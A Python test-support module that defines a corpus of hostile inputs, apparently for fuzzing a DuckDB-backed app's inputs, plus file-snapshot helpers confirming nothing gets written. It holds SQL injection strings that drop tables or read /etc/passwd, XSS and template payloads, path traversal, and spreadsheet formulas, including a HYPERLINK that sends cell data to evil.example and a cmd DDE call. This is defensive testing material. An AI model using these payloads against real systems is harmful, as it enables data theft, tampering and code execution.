"""One corpus of hostile input, thrown at every place a user's text or a file's value comes in.

``TEXTS``: strings a person could type or put in a URL or a cell (SQL injection in several dialects, DuckDB's own
file functions, stacked queries, comments, quotes, backslashes, NUL, a 100,000-character string, right-to-left and
combining Unicode, emoji, HTML/JS, spreadsheet formulas, path traversal, numbers out of range).
``VALUES``: what a tampered callback can post instead of a string (lists, dicts, null, booleans, special floats,
huge integers). ``FILES_WRITTEN_BY_THE_CORPUS``: every path an injection in the corpus would create if it ever ran.
"""

from __future__ import annotations

import hashlib
import os
from collections.abc import Iterator
from pathlib import Path

# Files the corpus's COPY / EXPORT / ATTACH statements would write if any of them ran as SQL.
COPY_TARGET = "/tmp/oobc-hostile-copy.csv"
ATTACH_TARGET = "/tmp/oobc-hostile-attach.duckdb"
EXPORT_TARGET = "/tmp/oobc-hostile-export"
FILES_WRITTEN_BY_THE_CORPUS = (Path(COPY_TARGET), Path(ATTACH_TARGET), Path(EXPORT_TARGET))

SQL_INJECTION = (
    "' or '1'='1",
    "' or 1=1 --",
    '" or ""="',
    "1 or 1=1",
    "2025 or 1=1",
    "2025; drop table marts.dim_ppa",
    "'; drop table marts.dim_ppa; --",
    "x'); delete from meta.refreshes; --",
    "'; update marts.dim_ppa set budget_allocation = 0; --",
    f"'; ATTACH '{ATTACH_TARGET}' AS pwn; CREATE TABLE pwn.t AS SELECT 1; --",
    f"'); COPY (select * from marts.dim_ppa) TO '{COPY_TARGET}'; --",
    "' union all select * from read_csv('/etc/passwd') --",
    "' union select current_setting('home_directory'), 1, 1 --",
    "') union all select * from read_text('/etc/passwd') --",
    f"'; EXPORT DATABASE '{EXPORT_TARGET}'; --",
    "'; INSTALL httpfs; LOAD httpfs; --",
    "'; SET enable_external_access = true; --",
    "'; PRAGMA database_list; --",
    "admin'/*",
    "*/ or 1=1 /*",
    "1; select pg_sleep(10) --",
    "'; waitfor delay '0:0:10' --",
    "' || (select version()) || '",
    "$1",
    "$moas",
    "?",
    "%s",
    ":name",
    "{fiscal_year}",
)
QUOTES_AND_ESCAPES = (
    "'",
    "''",
    '"',
    "`",
    "\\",
    "\\'",
    "\\\\'; --",
    'O\'Brien & Sons "Ltd"',
    "line1\nline2\r\nline3",
    "tab\there",
    "nul\x00byte",
    "\x00",
    "\x1b[31mred\x1b[0m",
    "",
    "   ",
)
UNICODE = (
    "\u202eevil\u202c",  # right-to-left override
    "مرحبا بالعالم",  # Arabic (right to left)
    "שָׁלוֹם",  # Hebrew with points (combining)
    "Z̴̡̛͓͙a̷̢͓l̶̰̈g̵̟̓o̴͕͐",  # stacked combining marks
    "Ñoño Dávao — Cotabato",
    "🏳️‍🌈👨‍👩‍👧‍👦💰",
    "\ufeffbom",
    "\u200bzero\u200bwidth",
    "\ud7ff\ue000\uffff",
)
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(document.cookie)",
    "<a href='javascript:alert(1)'>x</a>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "<svg/onload=alert(1)>",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
)
PATHS = (
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "/etc/passwd",
    "....//....//etc/passwd",
    "C:\\Windows\\win.ini",
    "file:///etc/passwd",
    "%00",
    "%2e%2e/%2e%2e/",
)
NUMBERS_AS_TEXT = (
    "NaN",
    "nan",
    "inf",
    "-inf",
    "Infinity",
    "-0",
    "1e400",
    "-1e400",
    "1e-400",
    "9" * 400,
    "-9223372036854775809",
    "18446744073709551616",
    "0x10",
    "1_000",
    "1,5",
    "٣",  # Arabic-Indic digit three
    "１２",  # full-width digits
    "2025.5",
    "-2025",
    "0",
)
LONG = ("x" * 100_000, "'" * 100_000, ("a" + "\u0301") * 50_000)

TEXTS: tuple[str, ...] = (
    *SQL_INJECTION,
    *QUOTES_AND_ESCAPES,
    *UNICODE,
    *MARKUP,
    *FORMULAS,
    *PATHS,
    *NUMBERS_AS_TEXT,
    *LONG,
)
# Short enough for a URL or a file row (the 100k strings are thrown at the functions, not at every URL).
SHORT_TEXTS: tuple[str, ...] = tuple(t for t in TEXTS if len(t) <= 1000)

VALUES: tuple[object, ...] = (
    None,
    True,
    False,
    0,
    -0.0,
    float("nan"),
    float("inf"),
    float("-inf"),
    1e308,
    10**400,
    -(10**30),
    [],
    [None],
    ["' or 1=1 --", 2025],
    [[2025]],
    {},
    {"$ne": None},
    {"fiscal_year": "2025; drop table x"},
    [{"a": 1}],
    b"bytes",
)

ALL: tuple[object, ...] = (*TEXTS, *VALUES)


def short_label(value: object) -> str:
    """A readable test id for a corpus entry."""
    text = repr(value)
    return text if len(text) <= 40 else f"{text[:30]}…({len(text)} chars)"


def file_digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def tree_snapshot(*roots: Path) -> dict[str, str]:
    """Every file under ``roots`` with its sha-256: compare before and after to show nothing changed or appeared."""
    found: dict[str, str] = {}
    for root in roots:
        for path in _files(root):
            found[str(path)] = file_digest(path)
    return found


def _files(root: Path) -> Iterator[Path]:
    for dirpath, _dirs, names in os.walk(root):
        for name in names:
            path = Path(dirpath) / name
            if path.is_file() and not path.is_symlink():
                yield path


def nothing_written_by_the_corpus() -> list[Path]:
    """The corpus's COPY / ATTACH / EXPORT targets that exist (should be none)."""
    return [p for p in FILES_WRITTEN_BY_THE_CORPUS if p.exists()]
